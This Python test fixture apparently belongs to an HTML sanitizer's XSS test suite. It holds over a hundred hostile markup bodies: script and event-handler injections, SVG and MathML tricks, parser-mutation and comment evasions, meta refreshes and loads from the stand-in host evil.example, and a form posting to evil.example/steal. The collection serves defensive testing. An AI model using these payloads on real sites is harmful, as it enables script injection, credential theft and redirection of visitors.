"""Hostile markup: each body tries to call ``hit``, to frame a stranger, or to lead the reader away.

Grouped by what it abuses; a name is group and number.  Not every one is carried out by a current Chromium where nothing
cleans it: older and other browsers did, and so may the next one.
"""

from __future__ import annotations

from html import escape

from tests.xss.addresses import ADDRESSES
from tests.xss.texts import TEXTS

EVIL = "http://evil.example"

_GROUPS: dict[str, list[str]] = {
    "script": [
        "<script>hit(1)</script>",
        "<ScRiPt>hit(1)</sCrIpT >",
        "<script\x0c>hit(1)</script\x0c>",
        "<script/x>hit(1)</script>",
        f"<script src={EVIL}/x.js></script>",
        '<script src="//evil.example/x.js" type="module"></script>',
        '<script type="module">hit(1)</script>',
        "<<script>hit(1)//<</script>",
        "<scr<script>ipt>hit(1)</scr</script>ipt>",
        "<script>/*</p>*/hit(1)</script>",
        '<script src="data:text/javascript,hit(1)"></script>',
        "<scr\x00ipt>hit(1)</scr\x00ipt>",
        "<script>hit(1)",
        "%3Cscript%3Ehit(1)%3C/script%3E<script>hit(decodeURIComponent('%31'))</script>",
    ],
    "handler": [
        "<p onclick='hit(1)'>Press this paragraph about the lamps.</p>",
        '<p ONMOUSEOVER="hit(1)">Hover over this paragraph about the lamps.</p>',
        "<img src=x onerror=hit(1)>",
        '<img src="x"onerror="hit(1)">',
        "<img/src=x/onerror=hit(1)>",
        "<img src=x onerror\x0c=\x0chit(1)>",
        "<img src=x\nonerror\n=\nhit(1)>",
        "<img src=x onerror=&#104;it(1)>",
        "<img src=x onerror=&#x68;it&lpar;1&rpar;>",
        '<img src=x onerror="hit`1`">',
        "<img src=x:x onerror=\"window['h'+'it'](1)\">",
        "<body onload=hit(1)>",
        "<body onpageshow=hit(1)>",
        "<input autofocus onfocus=hit(1)>",
        "<details open ontoggle=hit(1)><summary>More</summary>about the lamps</details>",
        "<video><source onerror=hit(1)></video>",
        "<video src=x onerror=hit(1)></video>",
        "<audio src=x onerror=hit(1)></audio>",
        "<marquee onstart=hit(1)>Lamps</marquee>",
        '<p style="animation:x 1s" onanimationstart=hit(1)>Lamps</p><style>@keyframes x{from{left:0}}</style>',
        "<div contenteditable tabindex=0 onfocus=hit(1)>Lamps</div>",
        "<select autofocus onfocus=hit(1)><option>Lamp</select>",
        "<p a='>' onclick=hit(1)>Quotes in attributes of this paragraph.</p>",
        "<p x=`a` onclick=hit(1)//`>Grave accents in attributes of this paragraph.</p>",
        '<p title="a" title="b" onpointerover="hit(1)">Attributes that stand twice.</p>',
        "<p \x00onclick=hit(1) on\x00click=hit(1) onclick\x00=hit(1) onclick=hit(1)>NUL in the names of attributes.</p>",
        "<br onclick=hit(1)><hr onmouseover=hit(1)><sup onclick=hit(1)>1</sup>",
        "<table onclick=hit(1)><tr onclick=hit(1)><td onclick=hit(1)>Lamps<td>9</table>",
        '<a href="https://ok.example/&quot;onmouseover=&quot;hit(1)" onfocus="hit(1)">a link</a> about lamps.',
        '<blockquote cite="javascript:hit(1)" onclick="hit(1)">A word about lamps.</blockquote>',
    ],
    "svg": [
        "<svg onload=hit(1)></svg>",
        "<svg/onload=hit(1)//",
        "<svg><script>hit(1)</script></svg>",
        "<svg><script>hit&#40;1&#41;</script></svg>",
        f"<svg><script href={EVIL}/x.js /></svg>",
        "<svg><script xlink:href='data:text/javascript,hit(1)'></script></svg>",
        '<svg><a xlink:href="javascript:hit(1)"><text x=20 y=20>Lamps</text></a></svg>',
        '<svg><a href="javascript:hit(1)"><circle r=40 /></a></svg>',
        "<svg><a><animate attributeName=href values=javascript:hit(1) /><text x=20 y=20>Lamps</text></a></svg>",
        '<svg><a><set attributeName="href" to="javascript:hit(1)"/><text x=20 y=20>Lamps</text></a></svg>',
        "<svg><animate onbegin=hit(1) attributeName=x dur=1s></svg>",
        '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hit(1)</script></svg>#x"/></svg>',
        f'<svg><use href="{EVIL}/x.svg#x"/></svg>',
        f'<svg><image href="{EVIL}/x.svg" onload=hit(1) onerror=hit(1)></svg>',
        "<svg><foreignObject><img src=x onerror=hit(1)></foreignObject></svg>",
        f'<svg><foreignObject><iframe src="{EVIL}/"></iframe></foreignObject></svg>',
        "<svg><style><img src=x onerror=hit(1)></style></svg>",
        "<svg><title><p onclick=hit(1)>A title</title></svg>",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit(1)'/>\" onload=hit(1) onerror=hit(1)>",
        "<svg><desc><![CDATA[</desc><img src=x onerror=hit(1)>]]></svg>",
        '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">hit(1)</handler></svg>',
    ],
    "math": [
        '<math href="javascript:hit(1)">lamps</math>',
        '<math><mrow xlink:href="javascript:hit(1)"><mtext>lamps</mtext></mrow></math>',
        '<math><maction actiontype="statusline#http://x" xlink:href="javascript:hit(1)">lamps</maction></math>',
        "<math><mtext><script>hit(1)</script></mtext></math>",
        '<math><annotation-xml encoding="text/html"><img src=x onerror=hit(1)></annotation-xml></math>',
        "<math><mi//xlink:href='data:x,<script>hit(1)</script>'><img src=x onerror=hit(1)>",
    ],
    "frame": [
        f'<iframe src="{EVIL}/"></iframe>',
        "<iframe srcdoc='<script>hit(1)</script>'></iframe>",
        '<iframe srcdoc="&lt;img src=x onerror=hit(1)&gt;"></iframe>',
        '<iframe src="javascript:hit(1)"></iframe>',
        '<iframe src="data:text/html,<script>parent.hit(1)</script>"></iframe>',
        f"<frameset><frame src={EVIL}/></frameset>",
        f'<object data="{EVIL}/x.html"></object>',
        '<object data="javascript:hit(1)"></object>',
        '<object data="data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4="></object>',
        f'<object><param name="code" value="{EVIL}/x.class"></object>',
        f'<embed src="{EVIL}/x.html">',
        '<embed src="javascript:hit(1)">',
        f'<applet code="X" codebase="{EVIL}/"></applet>',
        f'<portal src="{EVIL}/"></portal><fencedframe></fencedframe>',
        f"<iframe/src={EVIL}/ ",
    ],
    "head": [
        f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
        '<meta http-equiv="refresh" content="0;url=javascript:hit(1)">',
        '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html,<script>hit(1)</script>">',
        f'<base href="{EVIL}/"><img src="relative.png">',
        '<base href="javascript:/*/"><a href="*/hit(1)">Lamps</a>',
        f'<link rel="stylesheet" href="{EVIL}/x.css">',
        f'<link rel="import" href="{EVIL}/x.html"><link rel="prefetch" href="{EVIL}/x">',
        f'<link rel="preload" as="script" href="{EVIL}/x.js">',
        '<link rel="stylesheet" href="x" onerror="hit(1)">',
        f'<meta name="referrer" content="unsafe-url"><img src="{EVIL}/x" onerror=hit(1)>',
    ],
    "style": [
        f'<style>@import "{EVIL}/x.css";</style>',
        f"<style>body{{background:url({EVIL}/x.png)}}</style>",
        f'<p style="background:url({EVIL}/x.png)">Lamps in a paragraph with a background.</p>',
        f'<p style="list-style:url(&quot;{EVIL}/x.png&quot;);display:list-item">Lamps in an item.</p>',
        '<p style="width:expression(hit(1))">Lamps in an expression.</p>',
        '<p style="behavior:url(#default#time2);-moz-binding:url(http://evil.example/x.xml#x)">Lamps.</p>',
        f"<style>@font-face{{font-family:x;src:url({EVIL}/x.woff)}} p{{font-family:x}}</style><p>Lamps in a font.</p>",
        "<style></style><img src=x onerror=hit(1)></style>",
        '<p style="x:</style><img src=x onerror=hit(1)>" onclick="hit(1)">Lamps in a style that ends.</p>',
        f'<table background="{EVIL}/x.png"><tr><td background="{EVIL}/y.png">Lamps<td>9</table>',
    ],
    "form": [
        '<form action="javascript:hit(1)"><button>Lamps</button></form>',
        '<form><button formaction="javascript:hit(1)">Lamps</button></form>',
        '<form id=x></form><button form=x formaction="javascript:hit(1)">Lamps</button>',
        '<form><input type="image" src="x" formaction="javascript:hit(1)" onerror=hit(1)></form>',
        f'<form action="{EVIL}/steal"><input name=a value=b><button>Send</button></form>',
        '<isindex action="javascript:hit(1)" type="image" onclick=hit(1)>',
        "<keygen autofocus onfocus=hit(1)>",
        "<textarea autofocus onfocus=hit(1)>Lamps</textarea>",
    ],
    "mutation": [
        "<noscript><p title='</noscript><img src=x onerror=hit(1)>'></noscript>",
        "<noscript><img src=x onerror=hit(1)></noscript><img src=x onerror=hit(1)>",
        "<template><img src=x onerror=hit(1)></template><template><script>hit(1)</script></template><img src onerror=hit(1)>",
        "<xmp><p title='</xmp><img src=x onerror=hit(1)>'></xmp>",
        "<listing>&lt;img src=x onerror=hit(1)&gt;</listing><img src=x onerror=hit(1)>",
        "<plaintext onclick=hit(1)><img src=x onerror=hit(1)>",
        "<title><p title='</title><img src=x onerror=hit(1)>'>",
        "<textarea><p title='</textarea><img src=x onerror=hit(1)>'>",
        "<noembed><p title='</noembed><img src=x onerror=hit(1)>'></noembed>",
        "<noframes><p title='</noframes><img src=x onerror=hit(1)>'></noframes>",
        "<iframe><p title='</iframe><img src=x onerror=hit(1)>'></iframe>",
        "<style><p title='</style><img src=x onerror=hit(1)>'></style>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit(1)&gt;' onclick=hit(1)>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit(1)>",
        "<svg></p><style><a id='</style><img src=x onerror=hit(1)>'>",
        "<svg><p><style><g title='</style><img src=x onerror=hit(1)>'>",
        "<math><annotation-xml><svg><style><img title='</style><img src=x onerror=hit(1)>'></style></svg></math>",
        "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=hit(1)>'>x</a>",
        "<table><a href='javascript:hit(1)'>fostered</a><tr><td>Lamps<td>9</table>",
        "<table><caption><table><caption><img src=x onerror=hit(1)></table></table>",
        "<table><td><a><table><td><a onclick=hit(1) href='javascript:hit(1)'>Lamps<td>9</table><td>8</table>",
        "<a href='javascript:hit(1)'><table><a href='javascript:hit(1)'>Lamps</table>",
        "<b><p><b><p><b onclick=hit(1)>Formatting that is adopted</p></b></p>",
        "<p><img src='&quot;><img src=x onerror=hit(1)>' alt='&quot;><img src=x onerror=hit(1)>' onerror=hit(1)></p>",
        '<img alt="`><script>hit(1)</script>" src="`><img src=x onerror=hit(1)>" onerror=hit(1)>',
        "<pre>\n&lt;script&gt;hit(1)&lt;/script&gt;\n\n</pre><pre onclick=hit(1)>&#10;&#10;&lt;img src=x onerror=hit(1)&gt;</pre>",
    ],
    "comment": [
        "<!--><img src=x onerror=hit(1)>-->",
        "<!---><img src=x onerror=hit(1)>-->",
        "<!-- --!><img src=x onerror=hit(1)> -->",
        "<!-- `--><!--><img src=x onerror=hit(1)>-->",
        "<![CDATA[<]]><img src=x onerror=hit(1)>",
        "<![CDATA[<img src=x onerror=hit(1)>]]><img src=x onerror=hit(1)>",
        "<?xml version='1.0'?><?x ><img src=x onerror=hit(1)>?>",
        "<!doctype html [<!ENTITY x '<img src=x onerror=hit(1)>'>]><img src=x onerror=hit(1)>",
        "<!--[if gte IE 4]><script>hit(1)</script><![endif]--><![if true]><img src=x onerror=hit(1)><![endif]>",
        "</ p onclick=hit(1)><img src=x onerror=hit(1)><//x><!x><%x%>",
        "<!--<img title='--><img src=x onerror=hit(1)>'>",
        "</br onclick=hit(1)><//><img src=x onerror=hit(1)></p onmouseover=hit(1)>",
    ],
    "source": [
        f'<img srcset="{EVIL}/a.png 1x, javascript:hit(1) 2x" onerror="hit(1)">',
        '<picture><source srcset="javascript:hit(1)"><img src="javascript:hit(1)" onerror=hit(1)></picture>',
        '<img src="javascript:hit(1)" lowsrc="javascript:hit(1)" dynsrc="javascript:hit(1)" onerror=hit(1)>',
        '<img data-src="javascript:hit(1)" data-lazy-src="data:text/html,<script>hit(1)</script>" src="" onerror=hit(1)>',
        '<img src="https://pictures.example/a.png" usemap="#m" onerror=hit(1)><map name=m><area shape=default href="javascript:hit(1)"></map>',
        f'<video poster="javascript:hit(1)"><track src="{EVIL}/x.vtt"></video><video src="{EVIL}/x.mp4" autoplay onerror=hit(1)></video>',
        f'<img src="{EVIL}/x.png?" alt="&lt;!--more--&gt;" onerror=hit(1)>',
    ],
    "clobber": [
        '<a id="body"></a><form id="document" name="cookie" onclick="hit(1)"><input name="body"></form>',
        '<img name="querySelector" src="x" onerror="hit(1)"><a id="hit" name="hit" href="javascript:hit(1)">Lamps</a>',
        '<p id="__proto__" class="constructor" onclick="hit(1)">Lamps with a name.</p>',
    ],
    "dangling": [
        f"<img src='{EVIL}/?",
        f'<a href="{EVIL}/?',
        "<p>Lamps <b><i><u><a href='javascript:hit(1)'>and no end",
        "<table><tr><td>Lamps<td><textarea onfocus=hit(1) autofocus>",
        f'</div></main></body></html><script>hit(1)</script><img src="{EVIL}/x.png" onerror=hit(1)>',
        '</article></div>"><svg onload=hit(1)>',
        "<p>&lt;script&gt;hit(1)&lt;/script&gt; that only looks like one <script>hit(1)</script></p>",
        "&amp;lt;img src=x onerror=hit(1)&amp;gt; &lt;img src=x onerror=hit(1)&gt; <img src=x onerror=hit(1)>",
    ],
}


def _link(address: str) -> str:
    double, single = address.replace('"', "&quot;"), address.replace("'", "&#39;")
    return (
        f'<p>A <a href="{double}">link with "quotes"</a> about lamps <img src="{double}" alt="{double}">, and '
        f"<a href='{single}'>another</a> one in a paragraph.</p>"
    )


def _told(text: str) -> str:
    """Hostile text as a page shows it: in a paragraph, in what is preformatted, in a picture's text, and bare."""
    shown = escape(text)
    return f'<p>{shown}</p><pre>{shown}</pre><img src="https://pictures.example/a.png" alt="{shown}">{text}'


BODIES: dict[str, str] = (
    {
        f"{group}-{number}": body
        for group, bodies in _GROUPS.items()
        for number, body in enumerate(bodies, start=1)
    }
    | {f"address-{number}": _link(address) for number, address in enumerate(ADDRESSES, start=1)}
    | {f"text-{number}": _told(text) for number, text in enumerate(TEXTS, start=1)}
)
